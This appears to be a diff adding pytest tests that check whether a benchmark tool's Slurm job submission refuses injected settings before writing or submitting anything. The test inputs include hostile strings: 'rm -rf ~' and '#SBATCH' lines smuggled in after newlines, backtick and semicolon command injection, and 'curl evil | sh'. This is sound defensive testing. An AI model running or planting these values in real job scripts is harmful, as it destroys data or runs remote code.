@@ -105,3 +105,130 @@ def test_local_cluster_end_to_end(tmp_path: Path, monkeypatch) -> None:
     again = invoke(*args)
     assert again.exit_code == 0 and "nothing to submit" in again.output
     assert "skip: iou_box seed 0" in again.output
+
+
+# --- sbatch safety end to end: a fake sbatch on PATH records what would be submitted ------------
+
+FAKE_SBATCH = """#!/bin/sh
+cp "$1" "{copy}"
+echo "Submitted batch job 4242"
+"""
+
+
+@pytest.fixture
+def fake_slurm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """sbatch copies the script it is given to the returned path; srun/sacct/squeue say nothing."""
+    bin_dir = tmp_path / "fake-bin"
+    bin_dir.mkdir()
+    copy = tmp_path / "submitted.sh"
+    (bin_dir / "sbatch").write_text(FAKE_SBATCH.format(copy=copy))
+    for tool in ("srun", "sacct", "squeue"):
+        (bin_dir / tool).write_text("#!/bin/sh\nexit 0\n")
+    for tool in bin_dir.iterdir():
+        tool.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
+    return copy
+
+
+def _assert_refused(result, *expected: str) -> None:
+    assert result.exit_code == 2, result.output
+    text = result.output.strip()
+    assert len(text.splitlines()) == 1 and text.startswith("error:"), text
+    for part in expected:
+        assert part in text, (part, text)
+
+
+def _config(tmp_path: Path, body: str) -> Path:
+    path = tmp_path / "hostile.toml"
+    path.write_text("[cluster]\n" + body)
+    return path
+
+
+@pytest.mark.parametrize("source", ["flag", "env", "file", "file-setup", "env-setup"])
+def test_hostile_settings_are_refused_before_anything_is_written(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_slurm: Path, source: str) -> None:
+    flags: list[str] = []
+    if source == "flag":
+        flags, expected = ["--partition", "gpu\nrm -rf ~"], ("--partition: partition:",
+                                                             "'gpu\\nrm -rf ~'")
+    elif source == "env":
+        monkeypatch.setenv("ATSS_BENCH_ACCOUNT", "lab`id`")
+        expected = ("ATSS_BENCH_ACCOUNT: account:", "'lab`id`'")
+    elif source == "file":
+        config = _config(tmp_path, 'qos = "high\\n#SBATCH --qos=top"\n')
+        monkeypatch.setenv("ATSS_BENCH_CONFIG", str(config))
+        expected = (f"{config}: cluster.qos:", "'high\\n#SBATCH --qos=top'")
+    elif source == "file-setup":
+        config = _config(tmp_path, 'setup = ["module load cuda\\ncurl evil | sh"]\n')
+        monkeypatch.setenv("ATSS_BENCH_CONFIG", str(config))
+        expected = (f"{config}: cluster.setup: must be a single line",)
+    else:
+        monkeypatch.setenv("ATSS_BENCH_SETUP", "module load cuda\ncurl evil | sh")
+        expected = ("ATSS_BENCH_SETUP: setup: must be a single line",)
+    results = tmp_path / "results"
+    for dry in ([], ["--dry-run"]):
+        result = invoke("submit", "recipes/table2.yaml", "--profile", "mini", "--cluster", "slurm",
+                        *flags, *dry, "--results", results)
+        _assert_refused(result, *expected)
+    assert not results.exists() and not fake_slurm.exists()  # no folder, nothing submitted
+
+
+HOSTILE_RECIPE = """\
+table: {table}
+title: "hostile"
+rows:
+  - id: a
+    label: "A"
+"""
+
+
+@pytest.mark.parametrize("table", ['"2\\nrm -rf ~"', '"2; id"', "[2]", '"t a b"', "true"])
+def test_hostile_recipe_table_is_refused_at_load(tmp_path: Path, fake_slurm: Path,
+                                                 table: str) -> None:
+    recipe = tmp_path / "hostile.yaml"
+    recipe.write_text(HOSTILE_RECIPE.format(table=table))
+    results = tmp_path / "results"
+    result = invoke("submit", recipe, "--profile", "mini", "--cluster", "slurm", "--results",
+                    results)
+    _assert_refused(result, f"{recipe}: table: must be a table number")
+    assert not results.exists() and not fake_slurm.exists()
+
+
+def test_hostile_profile_name_is_refused_at_load(tmp_path: Path, fake_slurm: Path) -> None:
+    profile = write_tiny_profile(tmp_path)
+    profile.write_text(profile.read_text().replace("name: tiny", 'name: "tiny\\nrm -rf ~"'))
+    results = tmp_path / "results"
+    result = invoke("submit", "recipes/table2.yaml", "--profile", profile, "--cluster", "slurm",
+                    "--results", results)
+    _assert_refused(result, f"{profile}: name: must be a name", "'tiny\\nrm -rf ~'")
+    assert not results.exists() and not fake_slurm.exists()
+
+
+def test_dry_run_shows_the_whole_script_and_submission_sends_exactly_it(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_slurm: Path) -> None:
+    monkeypatch.setenv("ATSS_BENCH_CONFIG", str(_config(
+        tmp_path, 'setup = ["module load cuda/12.1", "export OMP_NUM_THREADS=$SLURM_CPUS"]\n')))
+    results = tmp_path / "results"
+    args = ("submit", "recipes/table2.yaml", "--profile", "mini", "--cluster", "slurm",
+            "--partition", "gpu", "--account", "vision", "--gpus-per-node", "2", "--mem-gb", "16",
+            "--results", results)
+    dry = invoke(*args, "--dry-run")
+    assert dry.exit_code == 0, dry.output
+    start = dry.output.index("#!/bin/bash")
+    script = dry.output[start:dry.output.index("(end of sbatch script)")]
+    assert "#SBATCH --partition=gpu\n" in script and "#SBATCH --account=vision\n" in script
+    assert "# setup\nmodule load cuda/12.1\nexport OMP_NUM_THREADS=$SLURM_CPUS\n" in script
+    assert "-m submitit.core._submit" in script and not results.exists()
+    submitted = invoke(*args)
+    assert submitted.exit_code == 0, submitted.output
+    assert fake_slurm.read_text().strip() == script.strip()  # the dry run showed what was sent
+
+
+def test_results_folder_no_script_can_name_is_refused_before_any_write(
+        tmp_path: Path, fake_slurm: Path) -> None:
+    for name in ("res\nults", "res%Aults"):
+        results = tmp_path / name
+        result = invoke("submit", "recipes/table2.yaml", "--profile", "mini", "--cluster",
+                        "slurm", "--results", results)
+        _assert_refused(result, "cannot go into a job script", repr(str(results)))
+        assert not results.exists() and not fake_slurm.exists()
